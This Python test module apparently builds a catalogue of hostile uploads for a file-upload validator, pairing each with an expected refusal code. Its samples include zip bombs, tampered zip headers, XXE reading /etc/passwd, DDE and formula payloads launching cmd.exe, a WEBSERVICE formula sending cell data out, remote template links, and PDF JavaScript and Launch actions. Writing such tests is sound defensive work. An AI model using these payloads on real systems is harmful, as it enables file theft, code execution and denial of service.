"""Hostile files of every kind of CHECKS 28, each with the code of the refusal that must meet it."""

import io
import struct
import unicodedata
import zipfile
from collections.abc import Callable

from tests.factories.files import (
    DOCX_MAIN,
    XLSX_MAIN,
    Made,
    docx_parts,
    field_document,
    formula,
    jpg,
    object_stream,
    packed,
    paragraphs,
    pdf,
    png,
    sheet_xml,
    types,
    with_part,
    with_relation,
    xlsx_parts,
)


def with_type(content_type: str) -> Made:
    more = f'<Override PartName="/word/x.xml" ContentType="{content_type}"/>'
    return with_part("[Content_Types].xml", types(DOCX_MAIN, "word/document.xml", more))


def patched(change: Callable[[bytearray], None], parts: dict[str, bytes | str] | None = None) -> Made:
    def make() -> bytes:
        data = bytearray(packed(parts or docx_parts()))
        change(data)
        return bytes(data)

    return make


def central(data: bytearray, number: int = 0) -> int:
    """Where the n-th entry of the central directory stands."""
    at = -1
    for _ in range(number + 1):
        at = data.index(b"PK\x01\x02", at + 1)
    return at


def put(data: bytearray, at: int, form: str, value: int) -> None:
    struct.pack_into("<" + form, data, at, value)


def set_flags(data: bytearray) -> None:
    put(data, central(data) + 8, "H", 1)
    put(data, 6, "H", 1)


def set_method(data: bytearray) -> None:
    put(data, central(data) + 10, "H", 12)
    put(data, 8, "H", 12)


def make_link(data: bytearray) -> None:
    put(data, central(data) + 4, "H", 3 << 8 | 20)
    put(data, central(data) + 38, "L", 0o120777 << 16)


def overlap(data: bytearray) -> None:
    """The second entry of the directory points at the first one's data."""
    first, second = central(data), central(data, 1)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]


def lie_about_size(data: bytearray) -> None:
    put(data, central(data, 2) + 24, "L", 10)


def lie_about_sum(data: bytearray) -> None:
    put(data, central(data, 2) + 16, "L", 12345)


def claim_huge(data: bytearray) -> None:
    put(data, central(data) + 24, "L", 60 * 1024 * 1024)


def claim_zip64(data: bytearray) -> None:
    put(data, central(data) + 24, "L", 0xFFFFFFFF)


def rename_local(data: bytearray) -> None:
    data[30] = ord("{")


def second_disk(data: bytearray) -> None:
    put(data, len(data) - 18, "H", 1)


def quoted_overlap() -> bytes:
    """One compressed kernel, many directory entries over it: what no summing of bytes sees."""
    data = bytearray(packed(docx_parts()))
    first = central(data)
    name_len = struct.unpack_from("<H", data, first + 28)[0]
    entry = bytes(data[first : first + 46 + name_len])
    directory = first
    end = len(data) - 22
    copies = b"".join(entry[:46] + bytes(f"{n:0{name_len}d}", "ascii") for n in range(500))
    out = bytearray(data[:end] + copies + data[end:])
    put(out, len(out) - 12, "H", 4)
    count = struct.unpack_from("<H", data, len(data) - 12)[0] + 500
    struct.pack_into("<HHLL", out, len(out) - 14, count, count, end + len(copies) - directory, directory)
    return bytes(out)


def duplicate(first: str, second: str) -> Made:
    def make() -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, content in docx_parts().items():
                archive.writestr(name, content)
            archive.writestr(first, "<a/>")
            archive.writestr("z" * len(first) if first == second else second, "<b/>")
        return out.getvalue().replace(b"z" * len(first), first.encode())

    return make


def many_entries(count: int) -> Made:
    return lambda: packed({**docx_parts(), **{f"word/media/p{n}.png": b"" for n in range(count)}})


def bomb(kind: str, size: int) -> Made:
    if kind == "docx":
        return lambda: packed(docx_parts(paragraphs("a" * size)))
    return lambda: packed(
        xlsx_parts(sheet_xml('<row r="1"><c r="A1" t="str"><v>' + "a" * size + "</v></c></row>"))
    )


def laughs(kind: str) -> Made:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(9))
    dtd = f"<!DOCTYPE a [{entities}]>"
    if kind == "docx":
        document = paragraphs("&l8;").replace("<w:document", dtd + "<w:document")
        return lambda: packed(docx_parts(document))
    sheet = sheet_xml('<row r="1"><c r="A1" t="str"><v>&l8;</v></c></row>').replace(
        "<worksheet", dtd + "<worksheet"
    )
    return lambda: packed(xlsx_parts(sheet))


XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def cell(reference: str, row: int) -> Made:
    return lambda: packed(xlsx_parts(sheet_xml(f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>')))


# What it is, its name, its content, the code of the refusal.
HOSTILE: list[tuple[str, str, Made, str]] = [
    ("nothing at all", "a.xlsx", lambda: b"", "empty"),
    ("nothing at all, as text", "a.txt", lambda: b"", "empty"),
    ("larger than allowed", "a.txt", lambda: b"a" * (20 * 1024 * 1024 + 1), "too_big"),
    ("the scanners' test file", "a.txt", lambda: EICAR, "virus"),
    ("the scanners' test file stored in a document", "a.docx",
        lambda: packed({**docx_parts(), "word/media/a.png": EICAR}, method=zipfile.ZIP_STORED), "virus"),
    # names
    ("a name that climbs", "../../etc/a.docx", lambda: packed(docx_parts()), "name"),
    ("a name with a Windows path", "..\\a.docx", lambda: packed(docx_parts()), "name"),
    ("an absolute name", "/a.docx", lambda: packed(docx_parts()), "name"),
    ("a name written right to left", "bao\u202excod.docx", lambda: packed(docx_parts()), "name"),
    ("a name with NUL", "a\0.docx", lambda: packed(docx_parts()), "name"),
    ("a name with a line break", "a\n.docx", lambda: packed(docx_parts()), "name"),
    ("a name without beginning", ".docx", lambda: packed(docx_parts()), "name"),
    ("a name without ending", "docx", lambda: packed(docx_parts()), "name"),
    ("a very long name", "a" * 250 + ".docx", lambda: packed(docx_parts()), "name"),
    # one thing under the name of another
    ("a page named image", "a.png", lambda: b"<html><script>alert(1)</script>", "text.markup"),
    ("a drawing with script named image", "a.png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', "text.markup"),
    ("a drawing after an XML line", "a.jpg", lambda: b'\n <?xml version="1.0"?><svg/>', "text.markup"),
    ("a page named text", "a.txt", lambda: b"  <!DOCTYPE html><body>", "text.markup"),
    ("a shell script named text", "a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "text.markup"),
    ("rich text named text", "a.txt", lambda: b"{\\rtf1\\ansi}", "text.markup"),
    ("text written right to left", "a.txt", "an toàn \u202egpj.exe".encode, "text.markup"),
    ("a program named document", "a.docx", lambda: b"MZ\x90\0" + b"\0" * 200, "type.unknown"),
    ("a program named text", "a.txt", lambda: b"\x7fELF\2\1\1" + b"\0" * 200, "type.unknown"),
    ("an image named document", "a.docx", png, "extension"),
    ("a document named Excel", "a.xlsx", lambda: packed(docx_parts()), "extension"),
    ("an Excel file named image", "a.png", lambda: packed(xlsx_parts()), "extension"),
    ("a document with two endings", "a.docx.exe", lambda: packed(docx_parts()), "extension"),
    ("text named document", "a.docx", "chữ".encode, "extension"),
    ("an old Word file", "a.doc", lambda: OLE, "type.legacy"),
    ("an old Excel file under a new name", "a.xlsx", lambda: OLE, "type.legacy"),
    ("a plain archive", "a.zip", lambda: packed({"a.txt": "a"}), "type.archive"),
    ("a plain archive named document", "a.docx", lambda: packed({"a.txt": "a"}), "type.archive"),
    ("text in a broken encoding", "a.txt", lambda: b"\xff\xfe\x00", "type.unknown"),
    ("text with NUL", "a.txt", lambda: b"a\0b", "type.unknown"),
    # decompression
    ("a document bomb", "a.docx", bomb("docx", 40_000_000), "archive.ratio"),
    ("an Excel bomb", "a.xlsx", bomb("xlsx", 40_000_000), "archive.ratio"),
    ("a bomb beyond the sum", "a.docx", bomb("docx", 60_000_000), "archive.too_large"),
    ("a bomb in many parts", "a.docx",
        lambda: packed({**docx_parts(), **{f"word/p{n}.xml": f"<a>{'a' * 900_000}</a>" for n in range(50)}}),
        "archive.ratio"),
    ("more parts than allowed", "a.docx", many_entries(2_000), "archive.too_many"),
    ("65,535 parts", "a.docx", many_entries(65_530), "archive.too_many"),
    ("parts that share their bytes", "a.docx", patched(overlap), "archive"),
    ("five hundred parts over one kernel", "a.docx", quoted_overlap, "archive"),
    ("a size that is a lie", "a.docx", patched(lie_about_size), "archive.too_large"),
    ("a sum that is a lie", "a.docx", patched(lie_about_sum), "archive.broken"),
    ("a declared size beyond the limit", "a.docx", patched(claim_huge), "archive.too_large"),
    ("sizes hidden in zip64", "a.docx", patched(claim_zip64), "archive.broken"),
    # the archive's structure
    ("an encrypted part", "a.docx", patched(set_flags), "archive.encrypted"),
    ("an unknown compression", "a.docx", patched(set_method), "archive.method"),
    ("a symbolic link", "a.docx", patched(make_link), "archive.link"),
    ("another name in the local header", "a.docx", patched(rename_local), "archive.broken"),
    ("an archive on several disks", "a.docx", patched(second_disk), "archive.broken"),
    ("two parts of one name", "a.docx", duplicate("word/x.xml", "word/x.xml"), "archive.duplicate"),
    ("two parts that differ in case", "a.docx",
        duplicate("word/x.xml", "word/X.xml"), "archive.duplicate"),
    ("two parts that differ in composition", "a.docx",
        duplicate("word/hòa.xml", unicodedata.normalize("NFD", "word/hòa.xml")), "archive.duplicate"),
    ("a part that climbs", "a.docx", with_part("../../evil.xml", "<a/>"), "archive.path"),
    ("a part with an absolute name", "a.docx", with_part("/etc/passwd.xml", "<a/>"), "archive.path"),
    ("a part with a drive letter", "a.docx", with_part("C:x.xml", "<a/>"), "archive.path"),
    ("a part with a backslash", "a.docx", lambda: packed({**docx_parts(), "word-x.xml": "<a/>"}).replace(
        b"word-x.xml", b"word\\x.xml"), "archive.path"),
    ("a part written right to left", "a.docx", with_part("word/\u202elmx.xml", "<a/>"), "archive.path"),
    ("something before the archive", "a.docx", lambda: b"MZ" + packed(docx_parts()), "type.unknown"),
    ("an image before the archive", "a.png", lambda: png() + packed(docx_parts()), "image.trailing"),
    ("something after the archive", "a.docx", lambda: packed(docx_parts()) + b"<?php", "archive.broken"),
    ("a comment on the archive", "a.docx",
        lambda: packed(docx_parts(), comment=b"<script>"), "archive.broken"),
    ("the first half of a document", "a.docx", lambda: packed(docx_parts())[:400], "archive.broken"),
    ("an empty archive", "a.docx", lambda: b"PK\x05\x06" + b"\0" * 18, "archive.broken"),
    ("an archive in the document", "a.docx",
        with_part("word/media/a.png", packed({"a": "b"})), "archive.nested"),
    ("a compressed drawing", "a.docx",
        with_part("word/media/a.emz", b"\x1f\x8b" + b"\0" * 50), "archive.nested"),
    ("a page in the document", "a.docx",
        with_part("word/media/a.png", b"<html><body>"), "archive.nested"),
    ("a PDF in the document", "a.docx", with_part("word/media/a.bin", pdf()), "archive.nested"),
    # what the parts say
    ("entities that read files, in a document", "a.docx",
        with_part("word/settings.xml", XXE), "office.dtd"),
    ("entities that read files, in a drawing", "a.docx",
        with_part("word/media/a.svg", XXE), "office.dtd"),
    ("entities that read files, in Excel", "a.xlsx",
        with_part("xl/sharedStrings.xml", XXE, "xlsx"), "office.dtd"),
    ("entities in another encoding", "a.docx",
        with_part("word/settings.xml", XXE.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")),
        "office.dtd"),
    ("a billion laughs, in a document", "a.docx", laughs("docx"), "office.dtd"),
    ("a billion laughs, in Excel", "a.xlsx", laughs("xlsx"), "office.dtd"),
    ("a part that is no XML", "a.docx", with_part("word/settings.xml", "<a><b></a>"), "office.broken"),
    ("a part a thousand levels deep", "a.docx",
        with_part("word/x.xml", "<a>" * 1000 + "</a>" * 1000), "office.broken"),
    ("a macro", "a.docx", with_part("word/vbaProject.bin", OLE), "office.macro"),
    ("a macro under another name", "a.docx",
        with_type("application/vnd.ms-office.vbaProject"), "office.macro"),
    ("a document with macros as its type", "a.docx",
        with_type("application/vnd.ms-word.document.macroEnabled.main+xml"), "office.macro"),
    ("a sheet of Excel 4 macros", "a.xlsx",
        with_part("xl/macrosheets/sheet1.xml", "<a/>", "xlsx"), "office.macro"),
    ("buttons that call macros", "a.xlsx",
        with_part("customUI/customUI.xml", "<a/>", "xlsx"), "office.macro"),
    ("an embedded object", "a.docx", with_part("word/embeddings/oleObject1.bin", OLE), "office.object"),
    ("an object under the name of an image", "a.docx",
        with_part("word/media/a.png", OLE), "office.object"),
    ("a program under the name of an image", "a.docx",
        with_part("word/media/a.png", b"MZ\x90"), "office.object"),
    ("a control", "a.docx", with_part("word/activeX/activeX1.xml", "<a/>"), "office.object"),
    ("an embedded workbook", "a.docx",
        with_part("word/embeddings/b.xlsx", packed(xlsx_parts())), "office.object"),
    ("a relation to an object", "a.docx",
        with_relation("oleObject", "x.bin", external=False), "office.object"),
    ("a page taken in", "a.docx", with_relation("aFChunk", "a.htm", external=False), "office.object"),
    ("a template from the net", "a.docx",
        with_relation("attachedTemplate", "http://x.example/t.dotm"), "office.outside"),
    ("a template from a share", "a.docx",
        with_relation("attachedTemplate", "file://///x/t.dotm"), "office.outside"),
    ("an image from the net", "a.docx",
        with_relation("image", "https://x.example/a.png"), "office.outside"),
    ("an image from the net, not marked", "a.docx",
        with_relation("image", "https://x.example/a.png", external=False), "office.outside"),
    ("a part of another document", "a.docx", with_relation("subDocument", "b.docx"), "office.outside"),
    ("a link that is a script", "a.docx",
        with_relation("hyperlink", "javascript:alert(1)"), "office.outside"),
    ("a link to a share", "a.docx", with_relation("hyperlink", "file:////x/share"), "office.outside"),
    ("another workbook as source", "a.xlsx",
        with_part("xl/externalLinks/externalLink1.xml", "<a/>", "xlsx"),
        "office.outside"),
    ("a database as source", "a.xlsx",
        with_part("xl/connections.xml", "<a/>", "xlsx"), "office.outside"),
    ("a field that starts a program", "a.docx",
        field_document("DDEAUTO c:\\\\cmd.exe"), "office.command"),
    ("the same field in pieces", "a.docx",
        field_document(" DD", "EAU", "TO c:\\\\cmd.exe"), "office.command"),
    ("a formula that starts a program", "a.xlsx", formula("cmd|'/c calc'!A0"), "office.command"),
    ("a formula that calls out", "a.xlsx",
        formula('WEBSERVICE("http://x.example/"&amp;A1)'), "office.command"),
    ("a value in the last column", "a.xlsx", cell("XFD1", 1), "sheet.too_large"),
    ("a value in the last row", "a.xlsx", cell("A1048576", 1048576), "sheet.too_large"),
    ("two main parts", "a.docx", lambda: packed({**docx_parts(), "[Content_Types].xml": types(
        DOCX_MAIN, "word/document.xml",
        f'<Override PartName="/xl/workbook.xml" ContentType="{XLSX_MAIN}"/>')}),
        "type.archive"),
    # images
    ("an image of 30,000 × 30,000", "a.png", lambda: png(30_000, 30_000), "image.too_large"),
    ("a photograph of 30,000 × 30,000", "a.jpg", lambda: jpg(30_000, 30_000), "image.too_large"),
    ("an image without size", "a.png", lambda: png(0, 4), "image.broken"),
    ("half an image", "a.png", lambda: png()[:-20], "image.broken"),
    ("an image with a wrong sum", "a.png", lambda: png().replace(b"IDAT", b"IDAX"), "image.broken"),
    ("half a photograph", "a.jpg", lambda: jpg()[:-4], "image.broken"),
    ("a photograph without frame", "a.jpg", lambda: b"\xff\xd8\xff\xe0\0\x04ab\xff\xd9", "image.broken"),
    ("an archive behind a photograph", "a.jpg",
        lambda: jpg() + packed(docx_parts()) + b"\xff\xd9", "image.trailing"),
    ("a program in a photograph", "a.jpg",
        lambda: jpg(middle=b"\xff\xfe\0\x0e<?php x ?>\0\0"), "image.trailing"),
    # PDF
    ("a PDF without end", "a.pdf", lambda: pdf()[:-40], "pdf.broken"),
    ("a PDF with a password", "a.pdf", lambda: pdf(b"<< /Encrypt 5 0 R >>"), "pdf.encrypted"),
    ("a PDF with a script", "a.pdf", lambda: pdf(b"<< /S /JavaScript /JS (x) >>"), "pdf.active"),
    ("a PDF with a hidden script", "a.pdf", lambda: pdf(b"<< /S /J#61vaScript >>"), "pdf.active"),
    ("a PDF with a packed script", "a.pdf",
        lambda: pdf(object_stream(b"<< /S /JavaScript >>")), "pdf.active"),
    ("a PDF with a packed script, hidden", "a.pdf",
        lambda: pdf(object_stream(b"<< /S /JavaScript >>", b"/Obj#53tm")), "pdf.active"),
    ("a PDF that starts a program", "a.pdf",
        lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "pdf.active"),
    ("a PDF with a file in it", "a.pdf", lambda: pdf(b"<< /Type /EmbeddedFile >>"), "pdf.active"),
    ("a PDF bomb", "a.pdf", lambda: pdf(object_stream(b"a" * 60_000_000)), "archive.too_large"),
    ("an archive behind a PDF", "a.pdf", lambda: pdf(packed(docx_parts())), "image.trailing"),
    ("a PDF with something before it", "a.pdf", lambda: b"\0\0" + pdf(), "type.unknown"),
]  # fmt: skip
